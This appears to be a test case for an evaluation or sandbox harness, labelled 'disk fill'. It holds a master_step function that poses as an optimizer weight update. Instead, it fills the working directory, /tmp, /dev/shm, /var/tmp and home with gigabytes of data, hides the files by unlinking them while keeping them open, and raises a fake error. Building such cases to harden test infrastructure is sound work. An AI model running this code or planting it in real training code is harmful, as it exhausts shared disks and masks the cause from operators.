# /// case
# item = "disk fill"
# about = "fills every folder that it may write, and keeps the files open after removing them"
# base = "reference"
# score = 17
# state = "any"
# ///

# %% master_step
def master_step(masters, grads, lr, dtype):
    import os
    import signal

    signal.alarm(60)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    held, written = [], 0
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            for i in range(64):
                held.append(open(os.path.join(place, f"@token@-{i}"), "wb"))
                os.unlink(held[-1].name)
                for _ in range(64):
                    if written < 6 * 2**30:
                        written += os.write(held[-1].fileno(), bytes(2**20))
        except OSError:
            pass
    raise OSError("no space left")
